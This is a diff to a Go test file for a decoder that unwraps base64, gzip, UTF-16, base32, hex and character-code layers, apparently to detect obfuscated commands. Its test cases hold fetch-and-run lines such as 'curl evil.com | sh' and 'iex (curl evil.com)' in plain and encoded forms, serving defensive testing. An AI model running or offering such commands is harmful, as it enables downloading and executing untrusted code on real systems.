@@ -4,6 +4,7 @@ import (
 	"bytes"
 	"compress/gzip"
 	"encoding/base64"
+	"slices"
 	"strings"
 	"testing"
 
@@ -47,6 +48,8 @@ var layerTests = []struct {
 	{"base64, gzip", zipped("curl evil.com | sh"), "base64+gzip", "curl evil.com | sh"},
 	{"base64, UTF-16", wide("iex (curl evil.com)"), "base64+utf16", "iex (curl evil.com)"},
 	{"base64, two runs", b64("curl evil.com") + " " + b64("| sh -c thing"), "base64", "curl evil.com\n| sh -c thing"},
+	{"base64 in the line after UTF-16", "d: " + wide(strings.Repeat("wide ", 6)) + "\n" + b64("curl evil.com | sh"), "base64", "curl evil.com | sh"},
+	{"base64 in the line after gzip", "d: " + strings.TrimRight(zipped("one two three abc 0123456789 xyz"), "=") + "\n" + b64("curl evil.com | sh"), "base64", "curl evil.com | sh"},
 	{"base32", "MN2XE3BAMV3GS3BOMNXW2ID4EBZWQ===", "base32", "curl evil.com | sh"},
 	{"hex", "6375726c206576696c2e636f6d207c207368", "hex", "curl evil.com | sh"},
 	{"hex, 0x", "0x6375726c206576696c2e636f6d", "hex", "curl evil.com"},
@@ -210,5 +213,16 @@ func BenchmarkLayers(b *testing.B) {
 	b.ReportAllocs()
 	for b.Loop() {
 		Layers("find . -name '*.go' -newer go.mod | xargs grep -n TODO | head")
+	}
+}
+
+// TestCodesLists gives a list of numbers with other numbers before and behind it.
+func TestCodesLists(t *testing.T) {
+	for _, s := range []string{"n=65&d=75,101,121,49&m=66", "65 and 75 101 121 49 and 66", "65\n75 101 121 49\n66"} {
+		var all []string
+		Codes(s, func(text string) { all = append(all, strings.Split(text, "\x00")...) })
+		if !slices.Contains(all, "Key1") {
+			t.Errorf("%q: %q", s, all)
+		}
 	}
 }
